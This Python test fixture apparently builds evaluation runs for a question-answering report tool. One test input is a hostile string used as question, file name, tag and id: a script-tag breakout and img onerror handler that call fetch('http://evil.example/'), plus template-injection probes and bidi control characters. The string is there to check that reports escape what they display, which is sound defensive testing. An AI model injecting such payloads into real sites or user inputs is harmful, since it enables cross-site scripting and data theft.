"""Runs to report on: one with everything that a report can hold, hostile texts included."""

import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from footnote.evaluation.evaluate import Plan, evaluate
from footnote.evaluation.gates import Gates
from footnote.evaluation.question_files import read_questions
from footnote.evaluation.report.results import Results
from tests.evaluation.double import ScriptedEngine

CALLED = "document.body.dataset.pwned=1;fetch('http://evil.example/')"
HOSTILE = (
    f'</script><script>{CALLED}</script><img src=http://evil.example/ onerror="{CALLED}"> '
    "{{ 7 * 7 }} {% raw %} ${alert(1)} <b id=pwned>\x00\x07\u202ebidi</style>"
)
TEXTS = {
    "light.txt": "The light was lit in 1868.\n\nIt stands 48 metres high. It is white.",
    HOSTILE: f"Before it. {HOSTILE} After it.",
    "other.txt": "Nothing of note. 😀",
}
SCRIPT = {
    "When was it lit?": ("light.txt", "The light was lit in 1868.", 0.9),
    "How high is it?": ("light.txt", "It stands 48 metres high.", 0.8),
    "How white is it?": ("other.txt", "Nothing of note. 😀", 0.75),
    "Who built it?": ("other.txt", "Nothing of note.", 0.2),
    HOSTILE: (HOSTILE, HOSTILE, 0.95),
}
ROWS: list[dict[str, Any]] = [
    {"question": "When was it lit?", "answers": ["1868"], "document": "light.txt",
     "quote": "lit in 1868", "tags": ["fact"]},
    {"question": "How high is it?", "answers": ["48 metres"], "tags": ["fact"]},
    {"question": "How white is it?", "answers": ["very"], "document": "light.txt",
     "quote": "It is white."},
    {"question": "Who built it?", "answers": ["Nothing of note"], "tags": ["withheld"]},
    {"question": HOSTILE, "answerable": False, "id": HOSTILE, "tags": [HOSTILE]},
    {"question": "What is not there?", "answerable": False},
    {"question": "And this?"},
]  # fmt: skip


def make_run(
    output: str,
    rows: Sequence[Mapping[str, Any]] = ROWS,
    script: Mapping[str, tuple[str, str, float]] = SCRIPT,
    **changes: Any,  # noqa: ANN401
) -> Results:
    """Evaluate into a folder of the working directory."""
    path = Path(f"{output}.jsonl")
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    plan = Plan(path, read_questions(path), Path(output))
    return evaluate(ScriptedEngine(TEXTS, script), replace(plan, **changes))[0]


def make_full_run() -> Results:
    """Evaluate with a baseline, a sweep and gates, one of which fails."""
    make_run("old", [*ROWS[:5], {"question": "Gone?"}], {k: SCRIPT[k] for k in list(SCRIPT)[1:]})
    gates = Gates({"f1": 0.99}, {}, ("accuracy",))
    return make_run("run", baseline=Path("old"), sweep=True, gates=gates)
